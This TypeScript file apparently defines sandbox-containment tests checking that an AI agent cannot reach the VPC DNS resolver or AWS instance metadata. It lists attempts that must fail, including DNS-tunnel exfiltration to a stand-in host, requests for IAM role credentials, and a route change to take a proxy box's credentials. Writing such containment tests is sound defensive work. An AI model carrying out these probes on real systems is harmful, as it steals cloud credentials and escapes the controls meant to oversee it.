import { sharing } from '../../proof/proof';
import { LINK_LOCAL } from '../plan/addresses';
import type { Roles } from '../plan/roles';
import { type NetworkAttempt, type Probe, shell } from './attempt';

/** A, NS, CNAME, SOA, NULL, PTR, HINFO, MX, TXT, RP, AAAA, LOC, SRV, NAPTR, OPT, DS, SSHFP, RRSIG, NSEC, DNSKEY, TLSA, SVCB, HTTPS, SPF, … ANY, CAA, private use. */
const EVERY_TYPE = [
  1, 2, 5, 6, 10, 12, 13, 15, 16, 17, 28, 29, 33, 35, 39, 41, 43, 44, 46, 47, 48, 50, 52, 59, 60, 61, 64, 65,
  99, 249, 250, 252, 253, 255, 256, 257, 32768, 65280, 65535,
];
/** What an agent would steal, as labels of a name. */
const TUNNEL = `${'c2VjcmV0'.repeat(7)}.${'ZGF0YQ'.repeat(9)}.exfiltrated.example.com`;

const asking = sharing<NetworkAttempt>({
  group: 'the VPC resolver',
  law: 'NET-3',
  heldBy: 'DNS firewall that blocks every name and fails closed, or DNS support off',
  from: 'agent',
  mustFailIn: ['resolver'],
});

const dns = (to: string, more: object = {}): Probe => ({
  do: 'dns',
  to,
  name: 'example.com',
  types: [1],
  ...more,
});
const base = ({ plan }: Roles) => plan.services.resolvers[1] ?? LINK_LOCAL.resolver;

export const RESOLVER: readonly NetworkAttempt[] = [
  asking('H01', 'VPC base plus two, over UDP', (roles) => [dns(base(roles))]),
  asking('H02', '169.254.169.253, over UDP', () => [dns(LINK_LOCAL.resolver)]),
  asking('H03', 'VPC base plus two, over TCP', (roles) => [dns(base(roles), { stream: true })]),
  asking('H04', '169.254.169.253, over TCP', () => [dns(LINK_LOCAL.resolver, { stream: true })]),
  asking('H05', 'data in the labels of a name, both addresses', (roles) => [
    dns(base(roles), { name: TUNNEL }),
    dns(LINK_LOCAL.resolver, { name: TUNNEL, types: [16] }),
  ]),
  asking('H06', '39 question types', (roles) => [dns(base(roles), { types: EVERY_TYPE })]),
  asking('H07', '39 question types over TCP', () => [
    dns(LINK_LOCAL.resolver, { types: EVERY_TYPE, stream: true }),
  ]),
  asking('H08', 'questions of class CHAOS and ANY', (roles) => [
    dns(base(roles), { types: [16], class: 3 }),
    dns(base(roles), { types: [16], class: 255 }),
  ]),
  asking('H09', 'from a container behind the agent host', () => [dns(LINK_LOCAL.resolver)], {
    from: 'guest',
  }),
  asking('H10', 'from source port 53 and a high one', (roles) => [
    dns(base(roles), { sourcePort: 53 }),
    dns(base(roles), { sourcePort: 65000 }),
  ]),
];

export const token = {
  method: 'PUT',
  path: '/latest/api/token',
  headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' },
};
export const get = (path: string, withToken: boolean) => ({
  method: 'GET',
  path,
  headers: withToken ? { 'X-aws-ec2-metadata-token': '{token}' } : {},
});
export const ROLES = '/latest/meta-data/iam/security-credentials/';
export const http = (...requests: object[]): Probe => ({ do: 'http', to: LINK_LOCAL.metadata, requests });

const metadata = sharing<NetworkAttempt>({
  group: 'instance metadata',
  law: 'IMDS-1',
  heldBy: 'HttpTokens required, hop limit 1',
  from: 'agent',
  mustFailIn: ['metadata'],
});

export const METADATA: readonly NetworkAttempt[] = [
  metadata('I01', 'IMDSv1 on the agent host', () => [http(get('/latest/meta-data/instance-id', false))]),
  metadata('I02', 'IMDSv1 user data on the agent host', () => [http(get('/latest/user-data', false))]),
  metadata('I03', 'IMDSv1 with a token made up', () => [
    http({
      ...get('/latest/meta-data/instance-id', false),
      headers: { 'X-aws-ec2-metadata-token': 'made-up' },
    }),
  ]),
  metadata('I04', 'role credentials by IMDSv2', () => [http(token, get(ROLES, true))], {
    law: 'IAM-1',
    heldBy: 'no instance profile',
  }),
  metadata('I05', 'role credentials by IMDSv1', () => [http(get(ROLES, false))], {
    law: 'IAM-1',
    heldBy: 'no instance profile, HttpTokens required',
  }),
  metadata(
    'I06',
    'an IMDSv2 token from a container behind it',
    () => [http(token, get('/latest/meta-data/instance-id', true))],
    { from: 'guest', heldBy: 'hop limit 1' },
  ),
  metadata(
    'I07',
    'IMDSv1 from a container behind it',
    () => [http(get('/latest/meta-data/instance-id', false))],
    { from: 'guest' },
  ),
  metadata(
    'I08',
    "the proxy box's credentials, with the proxy box as next hop",
    (roles) => [
      ...shell(`ip route replace ${LINK_LOCAL.metadata}/32 via ${roles.ownProxy.v4} dev eth0 onlink`),
      http(token, get(ROLES, true)),
    ],
    {
      law: 'IAM-1',
      heldBy: 'metadata belongs to the link; no instance profile',
      undo: () => shell(`ip route del ${LINK_LOCAL.metadata}/32`),
    },
  ),
  metadata('I09', 'IMDSv1 on the proxy box, as a tricked proxy would ask', () => [http(get(ROLES, false))], {
    from: 'ownProxy',
  }),
];
